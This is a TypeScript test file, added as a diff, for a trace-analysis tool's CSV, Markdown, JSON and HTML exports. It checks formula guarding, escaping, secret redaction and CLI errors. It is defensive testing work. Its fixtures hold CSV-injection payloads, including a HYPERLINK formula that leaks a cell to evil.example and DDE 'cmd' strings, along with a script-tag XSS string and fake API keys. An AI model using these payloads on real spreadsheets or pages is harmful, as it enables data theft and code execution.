@@ -1,0 +1,547 @@
+// Exports (src/report/export.ts) and `hotmess export`: CSV quoting and the formula guard,
+// Markdown that model text cannot reformat, JSON with the traces and without keys, the HTML
+// view's CSP, and the command on a simulated benchmark run and on the example trace set.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { appendFileSync, copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { Writable } from "node:stream";
+import { analyzeRecords, type Analysis, type ParsedRun, type PromptRecord } from "../src/core";
+import { analyzeRuns } from "../src/cli/run";
+import { main, type Io } from "../src/cli/main";
+import { CSV_HEADER, exportCsv, exportHtml, exportJson, exportMarkdown, guardFormula, mdCode, redactSecrets, tracesFromRecords, tracesFromRuns, type ExportDocument } from "../src/report/export";
+import { reportCsp } from "../src/report/html";
+
+const root = join(__dirname, "..");
+const EXAMPLE = join(root, "examples", "word-problems.jsonl");
+
+// ---- helpers ----------------------------------------------------------------------------------
+
+/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF records), to read back what was written. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let i = 0;
+  let quoted = false;
+  while (i < text.length) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i += 2;
+      } else if (c === '"') {
+        quoted = false;
+        i++;
+      } else {
+        field += c;
+        i++;
+      }
+    } else if (c === '"') {
+      assert.equal(field, "", "a quote only opens a field");
+      quoted = true;
+      i++;
+    } else if (c === ",") {
+      row.push(field);
+      field = "";
+      i++;
+    } else if (c === "\r" && text[i + 1] === "\n") {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = "";
+      i += 2;
+    } else {
+      assert.notEqual(c, "\n", "a bare LF only inside a quoted field");
+      assert.notEqual(c, "\r", "a bare CR only inside a quoted field");
+      field += c;
+      i++;
+    }
+  }
+  assert.equal(quoted, false, "no quoted field left open");
+  assert.equal(field, "", "the file ends with CRLF");
+  assert.equal(row.length, 0);
+  return rows;
+}
+
+/**
+ * The Markdown with its code spans taken out (CommonMark: a run of n backticks opens a span that
+ * the next run of exactly n backticks closes), and the spans' contents.
+ */
+function splitCodeSpans(md: string): { outside: string; spans: string[] } {
+  let outside = "";
+  const spans: string[] = [];
+  let i = 0;
+  while (i < md.length) {
+    if (md[i] !== "`") {
+      outside += md[i];
+      i++;
+      continue;
+    }
+    let n = 0;
+    while (md[i + n] === "`") n++;
+    const fence = "`".repeat(n);
+    let j = i + n;
+    let close = -1;
+    while (j < md.length) {
+      const k = md.indexOf(fence, j);
+      if (k < 0) break;
+      if (md[k + n] !== "`" && md[k - 1] !== "`") {
+        close = k;
+        break;
+      }
+      j = k + 1;
+      while (md[j] === "`") j++;
+    }
+    if (close < 0) {
+      outside += fence;
+      i += n;
+      continue;
+    }
+    spans.push(md.slice(i + n, close));
+    outside += "CODE";
+    i = close + n;
+  }
+  return { outside, spans };
+}
+
+/** Cells of a GFM table row: split at pipes that are not escaped. */
+function cells(line: string): string[] {
+  return line
+    .replace(/^\|/, "")
+    .replace(/\|$/, "")
+    .split(/(?<!\\)\|/);
+}
+
+class Capture extends Writable {
+  text = "";
+  override _write(chunk: Buffer, _enc: BufferEncoding, cb: () => void): void {
+    this.text += chunk.toString();
+    cb();
+  }
+}
+
+async function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
+  const stdout = new Capture();
+  const stderr = new Capture();
+  const io: Io = { stdout, stderr, env };
+  const code = await main(args, io);
+  return { code, out: stdout.text, err: stderr.text };
+}
+
+const dir = mkdtempSync(join(tmpdir(), "hotmess-export-"));
+
+function exampleAnalysis(): { analysis: Analysis; records: PromptRecord[] } {
+  const records = readFileSync(EXAMPLE, "utf8")
+    .split("\n")
+    .filter((l) => l.trim() !== "")
+    .map((l) => JSON.parse(l) as PromptRecord);
+  return { analysis: analyzeRecords(records, { resamples: 50 }), records };
+}
+
+const NASTY = [
+  'Total: 3, then "quoted", then more',
+  "line one\r\nline two\nline three",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+  "+1+2",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\tTabbed=1+1",
+  "\rCR first",
+];
+
+// ---- CSV ----------------------------------------------------------------------------------------
+
+test("CSV: a header, one row per prompt × run × column, RFC 4180 quoting, formulas guarded", () => {
+  const { analysis } = exampleAnalysis();
+  // put the nasty texts into real steps (steps of a segmented trace hold no newline; an export
+  // must still be right if one does)
+  const p = analysis.prompts[0]!;
+  const placed: string[] = [];
+  for (const [i, text] of NASTY.entries()) {
+    const run = p.runs[i % p.runs.length]!;
+    const step = run.steps[Math.floor(i / p.runs.length)]!;
+    step.text = text;
+    placed.push(text);
+  }
+  p.runs[1]!.answerKey = "-3"; // a plain negative number is not a formula
+  p.runs[2]!.answerKey = "=1+1";
+  const csv = exportCsv(analysis);
+  assert.ok(csv.endsWith("\r\n"));
+  const rows = parseCsv(csv);
+  assert.deepEqual(rows[0], [...CSV_HEADER]);
+  assert.deepEqual(rows[0], ["prompt", "run", "column", "step", "group", "divergence", "is_fork_column", "answer_key", "correct", "step_text"]);
+  const expected = analysis.prompts.reduce((s, x) => s + x.runs.length * x.columns.length, 0);
+  assert.equal(rows.length - 1, expected, "rows = Σ runs × columns");
+  for (const r of rows) assert.equal(r.length, CSV_HEADER.length, "every row has every field");
+
+  // the nasty texts read back exactly, with the guard's ' where a spreadsheet would see a formula
+  const stepTexts = rows.slice(1).map((r) => r[9]!);
+  for (const text of placed) {
+    const want = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+    assert.ok(stepTexts.includes(want), `step text ${JSON.stringify(text)} reads back as ${JSON.stringify(want)}`);
+  }
+  for (const field of rows.flat()) assert.doesNotMatch(field, /^[=+@\t\r]/, `no field starts a formula: ${JSON.stringify(field)}`);
+  for (const field of rows.slice(1).flatMap((r) => [r[0]!, r[7]!, r[9]!])) assert.ok(!/^-/.test(field) || field === "-3", `only plain numbers start with -: ${field}`);
+  assert.ok(rows.some((r) => r[7] === "-3"));
+  assert.ok(rows.some((r) => r[7] === "'=1+1"));
+  assert.match(csv, /"=HYPERLINK|"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click me""\)"/);
+
+  // the cells: gaps have an empty step, group and text; the fork column is flagged
+  for (const pa of analysis.prompts) {
+    const mine = rows.slice(1).filter((r) => r[0] === pa.id);
+    assert.equal(mine.length, pa.runs.length * pa.columns.length);
+    for (const r of mine) {
+      const cell = pa.columns[Number(r[2])]!.cells[Number(r[1])]!;
+      assert.equal(r[3], cell.step === null ? "" : String(cell.step));
+      assert.equal(r[4], cell.group === null ? "" : String(cell.group));
+      assert.equal(Number(r[5]), cell.divergence);
+      assert.equal(r[6], String(pa.forkColumn === Number(r[2])));
+      assert.ok(r[8] === "true" || r[8] === "false");
+      if (cell.step === null) assert.equal(r[9], "");
+    }
+  }
+});
+
+test("guardFormula and mdCode on their own", () => {
+  assert.equal(guardFormula("=1+1"), "'=1+1");
+  assert.equal(guardFormula("@A1"), "'@A1");
+  assert.equal(guardFormula("\t=1"), "'\t=1");
+  assert.equal(guardFormula("-1.5"), "-1.5");
+  assert.equal(guardFormula("+3e5"), "+3e5");
+  assert.equal(guardFormula("-"), "'-");
+  assert.equal(guardFormula("x = 1"), "x = 1");
+  assert.equal(mdCode("a `b` c"), "``a `b` c``");
+  assert.equal(mdCode("`x`"), "`` `x` ``");
+  assert.equal(mdCode("a | b", { table: true }), "`a \\| b`");
+  assert.equal(mdCode("  two\n\nlines  "), "`two lines`");
+  assert.equal(mdCode("abcdefghij", { max: 5 }), "`abcd…`");
+  assert.equal(mdCode(" \n "), "*(empty)*");
+  assert.equal(mdCode("evil\u202eright-to-left\u001b[31m"), "`evilright-to-left[31m`");
+});
+
+// ---- Markdown ---------------------------------------------------------------------------------
+
+test("Markdown: a summary whose model text can break no table and make no link, HTML or emphasis", () => {
+  const { analysis } = exampleAnalysis();
+  const p = analysis.prompts.find((x) => x.forkColumn !== null)!;
+  assert.ok(p, "the example has a prompt with a fork");
+  const evil = "| broken | table <script>alert(1)</script> [link](http://x) **bold** _it_ @octocat #1 ``tick`` <http://y> www.z.com &lt;b&gt;";
+  // every step at the fork, the answers and the id carry it
+  for (const cell of p.columns[p.forkColumn!]!.cells) if (cell.step !== null) p.runs[cell.run]!.steps[cell.step]!.text = `${evil} ${cell.group}`;
+  for (const a of p.answers) a.key = `${evil} answer ${a.count}`;
+  p.id = `id ${evil}`;
+  p.model = `model ${evil}`;
+
+  const md = exportMarkdown(analysis, { maxStepText: 400 });
+  assert.match(md, /^# Hot Mess Inspector: \d+ prompts\n/);
+  const { outside, spans } = splitCodeSpans(md);
+  // outside the code spans: nothing of the model text
+  assert.doesNotMatch(outside, /<|\[link\]|\]\(|http|www\.|@octocat|#1\b|\*\*bold|_it_|&lt;/, outside);
+  // inside: all of it, as text
+  assert.ok(spans.some((s) => s.includes("<script>alert(1)</script> [link](http://x) **bold**")));
+  assert.ok(spans.some((s) => s.includes("``tick``")));
+
+  // tables keep their shape: every row has as many cells as its header
+  const lines = md.split("\n");
+  let width = -1;
+  for (const line of lines) {
+    if (!line.startsWith("|")) {
+      width = -1;
+      continue;
+    }
+    const n = cells(line).length;
+    if (width < 0) width = n;
+    else assert.equal(n, width, `table row keeps its ${width} cells: ${line}`);
+  }
+  assert.ok(lines.filter((l) => l.startsWith("|")).some((l) => l.includes("\\| broken")), "pipes in a table cell are escaped");
+
+  // the summary: per prompt its line, answers, fork; then pooled and the length split
+  assert.match(md, /\*\*n = \d+\*\* · model `+/);
+  assert.match(md, /\*\*incoherence \d\.\d{3} \[\d\.\d{3}–\d\.\d{3}\]\*\* · bias² \d\.\d{3} · variance \d\.\d{3} · error \d\.\d{3}/);
+  assert.match(md, /\| answer \| runs \| share \|/);
+  assert.match(md, /\*\*Fork\*\* at column \d+ of \d+/);
+  assert.match(md, /## Pooled over \d+ of \d+ prompts with a target/);
+  assert.match(md, /\| brier \| /);
+  assert.match(md, /## Length split/);
+});
+
+test("Markdown: top 5 answers and …, cut step texts, disagreement without a target, optimizer steps", () => {
+  const samples = ["1", "2", "3", "4", "5", "6", "7", "7"].map((a) => ({ text: `Step one is the same.\nThen I think ${"very ".repeat(40)}hard about ${a}.\nAnswer: ${a}`, answer: a }));
+  const a = analyzeRecords([{ id: "no-target", samples }], { resamples: 0 });
+  const md = exportMarkdown(a, { maxStepText: 40 });
+  assert.match(md, /no target: \*\*disagreement 0\.\d{3}\*\*/);
+  assert.match(md, /\| … 2 more classes \| 2 \| 25% \|/);
+  assert.match(md, /\| `7` \| 2 \| 25% \|/);
+  assert.match(md, /No prompt has a reference answer/);
+  for (const span of splitCodeSpans(md).spans) assert.ok(Array.from(span).length <= 40 || span.startsWith("no-target"), `cut: ${span}`);
+});
+
+// ---- JSON and redaction -----------------------------------------------------------------------
+
+const KEY = "sk-ant-api03-xxxxxxxxxxxxxxxxxxxx";
+const ENV_KEY = "my-local-server-secret-0123456789";
+
+function runWithKeys(): ParsedRun {
+  const header = {
+    type: "header" as const,
+    schema: "hotmess.run/1" as const,
+    id: "leaky",
+    createdAt: "2026-01-01T00:00:00.000Z",
+    tool: { name: "hotmess", version: "0" },
+    provider: "anthropic",
+    model: "claude-test",
+    prompt: `What is 2 + 2? (my key is ${KEY})`,
+    reference: 4,
+    parameters: { n: 3, maxTokens: 100, thinking: { type: "none" }, concurrency: 1, idleTimeoutMs: 1000 },
+  };
+  const sample = (index: number, text: string, thinking = "") => ({
+    type: "sample" as const,
+    index,
+    text,
+    thinking,
+    redactedThinking: 0,
+    usage: { inputTokens: 1, outputTokens: 1 },
+    costUsd: null,
+    latencyMs: 1,
+    retries: 0,
+    truncated: false,
+    stopReason: "end_turn",
+    finishedAt: "2026-01-01T00:00:01.000Z",
+  });
+  return {
+    header,
+    samples: [
+      sample(2, `The header said ${KEY}.\n2 + 2 = 4\nAnswer: 4`),
+      sample(0, "2 + 2 = 4\nAnswer: 4", `Let me use Authorization: Bearer abcdefghijklmnop0123456789 and ${ENV_KEY}.\nThen 2 + 2 = 4.`),
+      sample(1, `2 + 2 = 5\nsk-proj-ABCDEFGHIJKLMNOPQRSTUVWXYZ012345\nAnswer: ${KEY}`),
+    ],
+    failures: [],
+    end: null,
+    warnings: [],
+    goodLength: 0,
+    missingNewline: false,
+  };
+}
+
+test("redactSecrets: provided secrets and things that look like keys become [redacted]", () => {
+  assert.equal(redactSecrets(`key ${KEY}.`), "key [redacted].");
+  assert.equal(redactSecrets("sk-proj-ABCDEFGHIJKLMNOPQRSTUVWXYZ"), "[redacted]");
+  assert.equal(redactSecrets("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.abc"), "Authorization: Bearer [redacted]");
+  assert.equal(redactSecrets(`use ${ENV_KEY}!`, [ENV_KEY]), "use [redacted]!");
+  // ordinary text stays: short sk- words, "task-ant-…", a bearer of short words, short "secrets"
+  assert.equal(redactSecrets("sk-learn and risk-free, task-antelope, Bearer bonds"), "sk-learn and risk-free, task-antelope, Bearer bonds");
+  assert.equal(redactSecrets("x = 1 and abc", ["abc", "1", ""]), "x = 1 and abc");
+});
+
+test("JSON: hotmess.analysis/1 with the raw traces, and no key anywhere", () => {
+  const runs = [runWithKeys()];
+  const analysis = analyzeRuns(runs);
+  const text = exportJson(analysis, tracesFromRuns(runs), { secrets: [ENV_KEY], createdAt: "2026-02-03T04:05:06.000Z", tool: { name: "hotmess", version: "9.9.9" } });
+  for (const leak of [KEY, "sk-ant-", ENV_KEY, "abcdefghijklmnop0123456789", "sk-proj-"]) assert.ok(!text.includes(leak), `${leak} is not in the export`);
+  assert.match(text, /\[redacted\]/);
+  const doc = JSON.parse(text) as ExportDocument;
+  assert.equal(doc.schema, "hotmess.analysis/1");
+  assert.deepEqual(doc.export, { schema: "hotmess.export/1", createdAt: "2026-02-03T04:05:06.000Z", tool: { name: "hotmess", version: "9.9.9" } });
+  assert.equal(doc.prompts.length, 1);
+  assert.equal(doc.traces.length, 1);
+  assert.equal(doc.traces[0]!.prompt, "leaky");
+  assert.deepEqual(
+    doc.traces[0]!.runs.map((r) => r.index),
+    doc.prompts[0]!.runs.map((r) => r.index),
+  );
+  // the traces are the run file's samples, in the analysis's run order
+  assert.equal(doc.traces[0]!.runs[0]!.text, "The header said [redacted].\n2 + 2 = 4\nAnswer: 4");
+  assert.equal(doc.traces[0]!.runs[0]!.thinking, null);
+  assert.equal(doc.traces[0]!.runs[1]!.thinking, "Let me use Authorization: Bearer [redacted] and [redacted].\nThen 2 + 2 = 4.");
+  assert.equal(doc.prompts[0]!.prompt, "What is 2 + 2? (my key is [redacted])");
+  // the analysis itself is not changed by the export
+  assert.ok(analysis.prompts[0]!.prompt!.includes(KEY));
+
+  // a trace set's records as traces
+  const records: PromptRecord[] = [{ id: "t", samples: [{ text: "a" }, { thinking: "b" }, { text: "c", thinking: "d" }] }];
+  assert.deepEqual(tracesFromRecords(records), [
+    {
+      prompt: "t",
+      runs: [
+        { index: 0, text: "a", thinking: null },
+        { index: 1, text: null, thinking: "b" },
+        { index: 2, text: "c", thinking: "d" },
+      ],
+    },
+  ]);
+});
+
+test("HTML: the comparison view with its CSP, redacted", () => {
+  const analysis = analyzeRuns([runWithKeys()]);
+  const nonce = "dGVzdC1ub25jZQ==";
+  const html = exportHtml(analysis, { webviewJs: "console.log(1)", css: "body{}", nonce, secrets: [ENV_KEY] });
+  assert.ok(html.includes(`<meta http-equiv="Content-Security-Policy" content="${reportCsp(nonce)}">`));
+  assert.ok(!html.includes(KEY) && !html.includes("sk-ant-"));
+  assert.match(html, /\[redacted\]/);
+  assert.match(html, /<script type="application\/json" id="hotmess-data"/);
+});
+
+// ---- the command ----------------------------------------------------------------------------
+
+const benchDir = join(dir, "bench");
+let benchRuns: string[] = [];
+async function bench(): Promise<string[]> {
+  if (benchRuns.length > 0) return benchRuns;
+  const r = await cli(["bench", "optimizer", "-n", "4", "--difficulty", "easy,medium", "--sim-speed", "0", "--out", benchDir]);
+  assert.equal(r.code, 0, r.err);
+  // the easy run first
+  benchRuns = readdirSync(benchDir)
+    .filter((f) => f.endsWith(".jsonl"))
+    .map((f) => join(benchDir, f))
+    .sort((a, b) => Number(readFileSync(b, "utf8").includes('"id":"optimizer-easy-seed1"')) - Number(readFileSync(a, "utf8").includes('"id":"optimizer-easy-seed1"')));
+  assert.equal(benchRuns.length, 2);
+  return benchRuns;
+}
+
+test("hotmess export writes each format from a simulated run file", async () => {
+  const [runFile] = await bench();
+  const checks: Record<string, (text: string) => void> = {
+    json: (t) => {
+      const doc = JSON.parse(t) as ExportDocument;
+      assert.equal(doc.schema, "hotmess.analysis/1");
+      assert.equal(doc.export.schema, "hotmess.export/1");
+      assert.equal(doc.traces[0]!.runs.length, 4);
+      assert.ok(doc.traces[0]!.runs.every((r) => (r.thinking ?? r.text ?? "").includes("x_1")));
+      assert.ok(doc.prompts[0]!.optimizer, "the per-step analysis is in");
+    },
+    csv: (t) => {
+      const rows = parseCsv(t);
+      assert.deepEqual(rows[0], [...CSV_HEADER]);
+      assert.ok(rows.length > 4);
+    },
+    md: (t) => {
+      assert.match(t, /^# Hot Mess Inspector: `optimizer-easy-seed1`/);
+      assert.match(t, /\*\*Per step\*\* \(optimizer emulation, easy: d = 2/);
+      assert.match(t, /\| k \| reached \| bias² \| variance \| error \| incoherence \[95% CI\] \|/);
+      assert.match(t, /\| 8 \| \d\/4 \|/);
+      assert.match(t, /model `simulated-reasoner`/);
+    },
+    html: (t) => {
+      assert.match(t, /^<!DOCTYPE html>/);
+      assert.match(t, /Content-Security-Policy/);
+      assert.match(t, /optimizer-easy-seed1/);
+    },
+  };
+  for (const [format, check] of Object.entries(checks)) {
+    const out = join(dir, `run-export.${format}`);
+    const r = await cli(["export", runFile!, "--format", format, "--out", out], { ANTHROPIC_API_KEY: ENV_KEY });
+    assert.equal(r.code, 0, r.err);
+    assert.equal(r.out, "");
+    assert.match(r.err, new RegExp(`^hotmess: wrote .*run-export\\.${format} \\(${format}, 1 prompt`));
+    check(readFileSync(out, "utf8"));
+    // the same to standard output
+    const s = await cli(["export", runFile!, "--format", format, "--out", "-"]);
+    assert.equal(s.code, 0, s.err);
+    assert.equal(s.err, "");
+    check(s.out);
+  }
+  assert.deepEqual(
+    readdirSync(dir).filter((f) => f.endsWith(".tmp")),
+    [],
+    "no temporary file left behind",
+  );
+});
+
+test("hotmess export: several run files make one analysis, one prompt each; format from --out; default OUT", async () => {
+  const runs = await bench();
+  const out = join(dir, "both.md");
+  const r = await cli(["export", ...runs, "--out", out]);
+  assert.equal(r.code, 0, r.err);
+  const md = readFileSync(out, "utf8");
+  assert.match(md, /^# Hot Mess Inspector: 2 prompts/);
+  assert.match(md, /## `optimizer-easy-seed1`/);
+  assert.match(md, /## `optimizer-medium-seed1`/);
+  const j = await cli(["export", ...runs, "--format", "json", "--out", "-"]);
+  const doc = JSON.parse(j.out) as ExportDocument;
+  assert.deepEqual(
+    doc.traces.map((t) => t.prompt),
+    doc.prompts.map((p) => p.id),
+  );
+  // default OUT: beside the first input, with the format's extension
+  const copy = join(dir, "copy-run.jsonl");
+  copyFileSync(runs[0]!, copy);
+  const d = await cli(["export", copy, "--format", "csv"]);
+  assert.equal(d.code, 0, d.err);
+  assert.ok(existsSync(join(dir, "copy-run.csv")));
+});
+
+test("hotmess export from the example trace set, every format", async () => {
+  const { analysis } = exampleAnalysis();
+  for (const format of ["json", "csv", "md", "html"]) {
+    const out = join(dir, `words.${format}`);
+    const r = await cli(["export", EXAMPLE, "--format", format, "--out", out]);
+    assert.equal(r.code, 0, r.err);
+    const text = readFileSync(out, "utf8");
+    if (format === "json") {
+      const doc = JSON.parse(text) as ExportDocument;
+      assert.deepEqual(
+        doc.prompts.map((p) => p.id),
+        analysis.prompts.map((p) => p.id),
+      );
+      assert.deepEqual(
+        doc.traces.map((t) => t.runs.length),
+        analysis.prompts.map((p) => p.n),
+      );
+      const first = JSON.parse(readFileSync(EXAMPLE, "utf8").split("\n")[0]!) as PromptRecord;
+      assert.equal(doc.traces[0]!.runs[0]!.text, first.samples[0]!.text);
+    }
+    if (format === "csv") assert.equal(parseCsv(text).length - 1, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0));
+    if (format === "md") assert.match(text, new RegExp(`^# Hot Mess Inspector: ${analysis.prompts.length} prompts`));
+    if (format === "html") assert.match(text, /Content-Security-Policy/);
+  }
+});
+
+test("hotmess export: keys in the environment and in traces never reach the file", async () => {
+  const runs = [runWithKeys()];
+  const lines = [JSON.stringify(runs[0]!.header), ...runs[0]!.samples.map((s) => JSON.stringify(s))];
+  const file = join(dir, "leaky.jsonl");
+  writeFileSync(file, lines.join("\n") + "\n");
+  for (const format of ["json", "csv", "md", "html"]) {
+    const r = await cli(["export", file, "--format", format, "--out", "-"], { ANTHROPIC_API_KEY: ENV_KEY, PATH: "/usr/bin" });
+    assert.equal(r.code, 0, r.err);
+    for (const leak of [KEY, "sk-ant-", ENV_KEY]) assert.ok(!r.out.includes(leak), `${format}: ${leak} is not exported`);
+  }
+});
+
+test("hotmess export: one-line errors (exit 1) and skipped lines (exit 2)", async () => {
+  const runs = await bench();
+  const cases: [string[], RegExp][] = [
+    [["export"], /^hotmess: export needs a trace set or run files/],
+    [["export", EXAMPLE], /^hotmess: export needs --format json\|csv\|md\|html/],
+    [["export", EXAMPLE, "--format", "pdf"], /--format is json, csv, md or html, not "pdf"/],
+    [["export", join(dir, "nope.jsonl"), "--format", "md"], /nope\.jsonl: no such file\n$/],
+    [["export", dir, "--format", "md"], /is a directory/],
+    [["export", EXAMPLE, runs[0]!, "--format", "md"], /word-problems\.jsonl is not a run file: several files must all be run files/],
+    [["export", EXAMPLE, "--format", "md", "--out", join(dir, "no", "such", "dir.md")], /^hotmess: cannot write .*dir\.md: no such directory/],
+    [["export", runs[0]!, "--format", "md", "--out", runs[0]!], /is one of the inputs/],
+    [["export", EXAMPLE, "--format", "md", "--frob"], /unknown option --frob/],
+  ];
+  for (const [args, re] of cases) {
+    const r = await cli(args);
+    assert.equal(r.code, 1, args.join(" "));
+    assert.match(r.err, re);
+    assert.equal(r.err.trim().split("\n").length, 1, `one line: ${r.err}`);
+  }
+  // a run file cut short by a crash: the torn line is named, the rest exported, exit 2
+  const torn = join(dir, "torn.jsonl");
+  copyFileSync(runs[0]!, torn);
+  appendFileSync(torn, '{"type":"sample","index":9,"te');
+  const r = await cli(["export", torn, "--format", "csv", "--out", join(dir, "torn.csv")]);
+  assert.equal(r.code, 2, r.err);
+  assert.match(r.err, /torn\.jsonl: line \d+: the last line is incomplete/);
+  assert.ok(existsSync(join(dir, "torn.csv")));
+  // a trace set with a bad line: the same
+  const bad = join(dir, "bad.jsonl");
+  writeFileSync(bad, readFileSync(EXAMPLE, "utf8").split("\n")[0] + "\n{not json\n");
+  const b = await cli(["export", bad, "--format", "json", "--out", "-"]);
+  assert.equal(b.code, 2);
+  assert.match(b.err, /bad\.jsonl: line 2: not valid JSON/);
+  assert.equal((JSON.parse(b.out) as ExportDocument).traces.length, 1);
+});
